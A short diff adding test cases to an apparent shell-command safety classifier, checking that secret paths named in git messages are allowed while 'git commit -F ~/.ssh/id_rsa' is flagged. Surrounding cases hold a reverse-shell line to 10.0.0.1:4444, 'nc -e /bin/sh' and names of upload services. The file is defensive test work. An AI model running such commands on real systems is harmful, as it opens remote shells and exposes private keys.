@@ -417,6 +417,10 @@ EXFILTRATION: list[Case] = [
 ]
 
 DATA_NOT_CODE: list[Case] = [
+    ("git stash push -m 'wip: cat ~/.ssh/id_rsa example'", "allow", None),  # a message names no file
+    ("git commit --message='see ~/.aws/credentials docs'", "allow", None),
+    ("gh issue create --title x --body 'rotate ~/.ssh/id_rsa'", "allow", None),
+    ("git commit -F ~/.ssh/id_rsa", "ask", "secret-file-read"),  # -F reads the message from a file
     ('echo "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"', "allow", None),
     ("grep -rn 'nc -e /bin/sh' docs/", "allow", None),
     ("git commit -m 'block uploads to transfer.sh and webhook.site'", "allow", None),
